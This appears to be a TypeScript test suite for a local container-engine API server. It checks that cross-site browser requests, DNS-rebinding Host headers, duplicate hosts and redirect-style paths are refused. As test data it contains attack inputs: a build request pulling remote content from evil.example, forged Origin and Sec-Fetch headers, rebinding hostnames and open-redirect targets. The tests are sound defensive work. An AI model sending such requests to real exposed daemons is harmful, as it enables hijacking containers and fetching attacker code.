/** No page steers an engine that did not allow it: simple requests, rebinding, redirects. */
import assert from 'node:assert/strict';
import { test } from 'node:test';
import { ask, dial, post, readReply, readToEnd, type Served, serve } from '../api/serve.ts';

const EVIL = 'http://evil.example';
const POLICY = { origins: ['https://console.example.com'], names: ['builder', 'builder.corp.example'] };

/** Requests that a browser sends for any page, without asking first. */
const SIMPLE = [
  ['POST', '/containers/web/kill', undefined],
  ['POST', '/v1.18/containers/web/stop', undefined],
  ['POST', '/images/create?fromImage=busybox', undefined],
  ['POST', '/v1.10/containers/create', 'text/plain'],
  ['POST', '/containers/create', 'application/x-www-form-urlencoded'],
  ['POST', '/build?remote=http://evil.example/x', 'multipart/form-data; boundary=x'],
  ['GET', '/containers/json', undefined],
  ['GET', '/_ping', undefined],
] as const;

/** How a browser tells whose page asks. */
const FOREIGN: readonly Readonly<Record<string, string>>[] = [
  { Origin: EVIL },
  { Origin: 'null' },
  { Origin: 'http://localhost:9999' },
  { Origin: EVIL, 'Sec-Fetch-Site': 'same-origin' },
  { 'Sec-Fetch-Site': 'cross-site' },
  { 'Sec-Fetch-Site': 'same-site', 'Sec-Fetch-Mode': 'no-cors' },
  { Referer: `${EVIL}/page?x` },
];

for (const [method, url, type] of SIMPLE)
  test(`SC-WEB-01: ${method} ${url}${type ? ` as ${type}` : ''} for a foreign page does nothing`, async () => {
    await using served = await serve({ tcp: true });
    for (const place of [served.port, served.path])
      for (const foreign of FOREIGN) {
        const headers = { ...foreign, ...(type && { 'Content-Type': type }) };
        const body = type && '{"Image":"busybox"}';
        const answer = await ask(place, url, { method, headers, ...(body && { body }) });
        assert.equal(answer.status, 403, JSON.stringify(foreign));
        assert.match(answer.text, /not allowed/);
      }
    assert.deepEqual(served.calls, []);
  });

test('programs, own pages and a typed address are welcome', async () => {
  await using served = await serve({ tcp: true, browsers: POLICY });
  const at = `127.0.0.1:${served.port}`;
  for (const headers of [
    {},
    { Host: at, Origin: `http://${at}` },
    { Host: at, Origin: `https://${at}`, 'Sec-Fetch-Site': 'same-origin' },
    { 'Sec-Fetch-Site': 'none', 'Sec-Fetch-Mode': 'navigate' },
    { Host: at, Referer: `http://${at}/version` },
    { Origin: 'https://console.example.com', 'Sec-Fetch-Site': 'cross-site' },
  ] as Record<string, string>[])
    assert.equal((await post(served.port, '/containers/web/kill', { headers })).status, 204);
});

test('SC-WEB-01: bodies of JSON that are called something else are refused', async () => {
  await using served = await serve({ tcp: true });
  for (const type of ['text/plain', 'application/x-www-form-urlencoded', 'multipart/form-data; boundary=x'])
    for (const url of ['/containers/create', '/v1.18/containers/create', '/commit?container=web']) {
      const answer = await post(served.port, url, { body: '{}', headers: { 'Content-Type': type } });
      assert.equal(answer.status >= 400 && answer.status !== 404, true, `${url} ${type}: ${answer.status}`);
    }
  assert.deepEqual(served.calls, []);
});

const OWN = [
  '',
  'localhost',
  'LOCALHOST.:1',
  'x.localhost',
  '10.1.2.3:2375',
  '[::1]:80',
  '[fe80::1]',
  '127.0.0.1',
];
const NAMED = ['builder', 'Builder:2375', 'builder.corp.example', 'builder.corp.example.:80'];
const REBOUND = [
  'evil.example',
  'evil.example:2375',
  '127.0.0.1.evil.example',
  '127.0.0.1.evil',
  'localhost.evil.example',
  'localhost@evil.example',
  'evillocalhost',
  'evil.builder',
  '0x7f.1',
  '[::1].evil.example',
  '[evil.example]',
  'a b',
  '.',
];

test('SC-WEB-02: over TCP only addresses and own names are served', async () => {
  await using served = await serve({ tcp: true, browsers: POLICY });
  const status = async (host: string, url = '/version') =>
    (await ask(served.port, url, { headers: { Host: host } })).status;
  for (const host of [...OWN, ...NAMED]) assert.equal(await status(host), 200, host);
  for (const host of REBOUND) {
    assert.equal(await status(host), 403, host);
    // Also what needs no engine to answer it.
    assert.equal(await status(host, '/_ping'), 403, host);
  }
  for (const host of NAMED) assert.equal(await statusWithoutNames(host), 403, host);
});

async function statusWithoutNames(host: string): Promise<number> {
  await using served = await serve({ tcp: true });
  return (await ask(served.port, '/version', { headers: { Host: host } })).status;
}

test('SC-WEB-02: over a unix socket any host is served: command lines send all kinds', async () => {
  await using served = await serve();
  for (const host of ['docker', 'api.moby.localhost', '%2Fvar%2Frun%2Fdocker.sock', 'evil.example', ''])
    assert.equal((await ask(served.path, '/version', { headers: { Host: host } })).status, 200, host);
});

const raw = async ({ port }: Served, text: string): Promise<Buffer> => {
  const socket = dial(port);
  socket.end(text);
  return readToEnd(socket);
};

test('SC-WEB-02: a request has one host', async () => {
  await using served = await serve({ tcp: true });
  for (const head of [
    '',
    'Host: localhost\r\nHost: evil.example\r\n',
    'Host: evil.example\r\nHost: localhost\r\n',
  ]) {
    const answer = await raw(served, `GET /version HTTP/1.1\r\n${head}Connection: close\r\n\r\n`);
    assert.equal(readReply(answer).status, 400, head);
  }
  const absolute = `GET http://evil.example/version HTTP/1.1\r\nHost: localhost\r\nConnection: close\r\n\r\n`;
  assert.equal(readReply(await raw(served, absolute)).status, 403);
});

test('SC-WEB-13: no target is answered with a way to another host', async () => {
  await using served = await serve({ tcp: true });
  for (const target of [
    '//evil.example/..',
    '//evil.example/%2e%2e',
    '/\\evil.example/..',
    'http://localhost//evil.example/..',
    'http://localhost/../..//evil.example',
    'http://localhost:1/containers/../json',
    '/containers//json/',
    '/v1.24//evil.example',
  ]) {
    const request = `GET ${target} HTTP/1.1\r\nHost: localhost\r\nConnection: close\r\n\r\n`;
    const { status, headers } = readReply(await raw(served, request));
    assert.ok(status >= 400 && status < 500, `${target}: ${status}`);
    assert.equal(headers.location, undefined, target);
  }
});
